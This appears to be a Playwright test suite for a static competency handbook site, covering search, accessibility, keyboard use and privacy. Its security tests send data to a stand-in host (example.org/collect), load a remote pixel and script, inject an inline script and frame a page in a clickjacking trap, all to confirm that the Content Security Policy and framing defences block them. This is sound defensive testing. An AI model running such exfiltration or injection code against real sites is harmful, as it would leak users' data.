"""The handbook in real Chromium: search, privacy, accessibility (axe-core) and keyboard use."""

from __future__ import annotations

import pytest

from conftest import PHONE, Watched, serve

# What a reader means by each query, and the pages that answer it.
SEARCHES = {
    "2.3": ["competencies/2.3-negotiations-with-customers/"],
    "1.4": ["competencies/1.4-strategic-planning-for-key-accounts/"],
    "BATNA": ["glossary/", "competencies/2.3-negotiations-with-customers/", "theory/"],  # the definition
    "Kraljic": ["theory/"],
    "annual report": ["competencies/1.2-customer-understanding/", "competencies/2.4-financial-understanding/"],
    "sign off": ["diploma/"],
    "sign-off": ["diploma/"],  # the spec's spelling: a hyphen must not let "offering" on competency pages win
    "line-manager": ["diploma/"],
    "workspace": ["assess/workspace/"],  # the tool pages are found by what they do
    "coach review": ["assess/review/"],
}

PAGE_TYPES = {
    "home": "",
    "competency index": "competencies/",
    "area": "competencies/area-2/",
    "competency": "competencies/2.3-negotiations-with-customers/",
    "all competencies": "competencies/all/",
    "theory library": "theory/",
    "training path": "training/",
    "diploma guide": "diploma/",
    "development guide": "development/",
    "glossary": "glossary/",
    "about": "about/",
    "customise": "customise/",
    "guide": "training-path/",
    "worked example": "assess/example/",
    "not found": "no-such-page/",
}


def first_result(watched, base_url: str, query: str) -> str:
    page = watched.page
    page.goto(base_url)
    page.keyboard.press("/")  # Material's shortcut focuses the search box
    # The whole query at once (no results of a half-typed query to race with), then a key
    # release: Material reads the box on keyup, focus or the worker's "ready", not on input,
    # so without it the query is only seen if the index happens to finish loading later.
    page.fill(".md-search__input", query)
    page.keyboard.press("End")
    page.wait_for_selector(".md-search-result__item a")
    href = page.locator(".md-search-result__item a").first.get_attribute("href")
    return href.replace(base_url, "").split("?")[0]


@pytest.mark.parametrize("query", SEARCHES)
def test_search_puts_the_right_page_first(watched, base_url, query):
    assert first_result(watched, base_url, query) in SEARCHES[query]


def test_search_result_opens_the_page(watched, base_url):
    first_result(watched, base_url, "Kraljic")
    watched.page.keyboard.press("Enter")
    watched.page.wait_for_url("**/theory/**")
    assert watched.page.locator("h2#kraljic-matrix").is_visible()


@pytest.mark.parametrize("name", ["home", "competency", "theory library", "diploma guide", "development guide"])
def test_pages_request_nothing_from_other_hosts(watched, base_url, name):
    watched.page.goto(base_url + PAGE_TYPES[name], wait_until="networkidle")
    watched.page.keyboard.press("/")  # the search worker loads its index too
    watched.page.keyboard.type("value")
    watched.page.wait_for_selector(".md-search-result__item")
    assert watched.foreign == []
    assert watched.errors == []


@pytest.mark.parametrize("name", PAGE_TYPES)
def test_axe_finds_no_violations(watched, base_url, name):
    """The gates for every page type: axe-core, no request to another host, no console error."""
    watched.page.goto(base_url + PAGE_TYPES[name], wait_until="networkidle")
    assert watched.axe() == []
    assert watched.foreign == []
    expected = 1 if name == "not found" else 0  # the missing page's own 404 status
    assert len(watched.errors) == expected, watched.errors


@pytest.mark.parametrize("name", ["home", "competency", "theory library", "training path", "diploma guide", "worked example"])
def test_axe_finds_no_violations_in_dark_mode(watched, base_url, name):
    watched.page.emulate_media(color_scheme="dark")
    watched.page.goto(base_url + PAGE_TYPES[name], wait_until="networkidle")
    assert watched.page.evaluate("document.body.getAttribute('data-md-color-scheme')") == "slate"
    assert watched.axe() == []


def test_keyboard_reaches_main_content_and_search(watched, base_url):
    page = watched.page
    page.goto(base_url + PAGE_TYPES["competency"], wait_until="networkidle")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent.trim()") == "Skip to content"
    page.keyboard.press("Enter")
    assert page.evaluate("location.hash") == "#23-negotiations-with-customers"
    page.goto(base_url + PAGE_TYPES["competency"], wait_until="networkidle")
    for _ in range(20):  # from the top of the page, Tab reaches the search box within the header
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.classList.contains('md-search__input')"):
            break
    else:
        pytest.fail("Tab never reached the search box")


def test_statement_anchor_scrolls_to_the_statement(watched, base_url):
    page = watched.page
    page.goto(base_url + PAGE_TYPES["competency"] + "#2.3-preparing-2")
    target = page.locator('li[id="2.3-preparing-2"]')
    assert "BATNA" in target.inner_text()
    assert target.is_visible()


def test_unknown_address_gets_the_404_page(watched, base_url):
    response = watched.page.goto(base_url + "competencies/9.9-nothing/")
    assert response.status == 404
    assert watched.page.locator("h1").inner_text() == "Page not found"
    watched.page.get_by_role("link", name="Go to the home page").click()
    assert watched.page.url == base_url
    assert watched.errors[1:] == []  # the first is the 404 status of the missing page itself


def test_palette_toggle_switches_to_dark(watched, base_url):
    page = watched.page
    page.goto(base_url)
    before = page.evaluate("document.body.getAttribute('data-md-color-scheme')")
    page.locator("form[data-md-component=palette] label:visible").first.click()
    assert page.evaluate("document.body.getAttribute('data-md-color-scheme')") != before


@pytest.mark.parametrize("name", ["home", "competency", "theory library", "diploma guide"])
def test_on_a_phone_pages_fit_the_screen_and_axe_finds_nothing(browser, base_url, name):
    """A phone-sized screen: no sideways scrolling of the page (wide tables scroll inside themselves) and no axe finding."""
    context = browser.new_context(**PHONE)
    w = Watched(context.new_page(), base_url)
    w.page.goto(base_url + PAGE_TYPES[name], wait_until="networkidle")
    assert w.page.evaluate("document.documentElement.scrollWidth") <= 390
    assert w.axe() == []
    assert w.errors == [] and w.foreign == []
    context.close()


def test_the_content_security_policy_stops_any_request_to_another_host(watched, base_url):
    """Every page carries a Content Security Policy: even code added later could not send anything elsewhere."""
    page = watched.page
    failures = []
    page.on("requestfailed", lambda r: failures.append((r.url, r.failure)))
    page.goto(base_url + PAGE_TYPES["competency"], wait_until="networkidle")
    blocked = page.evaluate("""() => new Promise((resolve) => {
        const seen = [];
        document.addEventListener("securitypolicyviolation", (e) => { seen.push(e.violatedDirective); if (seen.length === 3) resolve(seen.sort()); });
        fetch("https://example.org/collect", {method: "POST", body: "answers"}).catch(() => {});
        new Image().src = "https://example.org/pixel.gif";
        const s = document.createElement("script"); s.src = "https://example.org/x.js"; document.head.append(s);
    })""")
    assert blocked == ["connect-src", "img-src", "script-src-elem"]
    for _ in range(20):  # each blocked request's "failed" event follows its "request" event
        if len(failures) >= len(watched.foreign):
            break
        page.wait_for_timeout(100)
    assert sorted(watched.foreign) == sorted(url for url, why in failures if why == "csp")  # stopped by the policy, not by a lack of network


def test_an_injected_inline_script_does_not_run_and_the_themes_own_do(watched, base_url):
    """The policy allows the theme's inline scripts by their hashes, not 'unsafe-inline': a script injected into a
    page does not run. The theme's own run on every page type (a refused one is a console error, failing `watched`),
    also after instant navigation to a page deeper in the site."""
    page = watched.page
    page.goto(base_url)
    policy = page.get_attribute('meta[http-equiv="Content-Security-Policy"]', "content")
    script_src = next(d for d in policy.split(";") if d.strip().startswith("script-src"))
    assert "'unsafe-inline'" not in script_src and "'sha256-" in script_src
    ran = page.evaluate("""() => new Promise((resolve) => {
        document.addEventListener("securitypolicyviolation", (e) => resolve([e.violatedDirective, window.injected === 1]));
        const s = document.createElement("script"); s.textContent = "window.injected = 1"; document.head.append(s);
    })""")
    assert ran == ["script-src-elem", False]
    for path in ("competencies/2.3-negotiations-with-customers/", "assess/", "diploma/"):
        page.goto(base_url + path, wait_until="networkidle")
    page.click("a.md-tabs__link >> nth=0")  # instant navigation back home: the home page's scripts under this policy
    page.wait_for_load_state("networkidle")


def test_an_assessment_page_framed_by_another_site_does_not_open_the_assessment(browser, base_url, tmp_path):
    """Clickjacking: another site's page framing the overview gets a link to open it in its own window, and no
    assessment (GitHub Pages sends no frame-ancestors header, and a <meta> policy cannot set one)."""
    (tmp_path / "trap.html").write_text(f'<iframe src="{base_url}assess/" width="800" height="600" title="x"></iframe>')
    context = browser.new_context()
    page = context.new_page()
    with serve(tmp_path) as elsewhere:  # another port: another origin
        page.goto(elsewhere + "trap.html")
        frame = page.frame_locator("iframe")
        notice = frame.locator("#kam-app .kam-notice--warning a")
        notice.wait_for()
        assert "open it in its own window" in notice.inner_text() and notice.get_attribute("target") == "_top"
        assert frame.locator("#kam-app select, #kam-app button").count() == 0
    context.close()
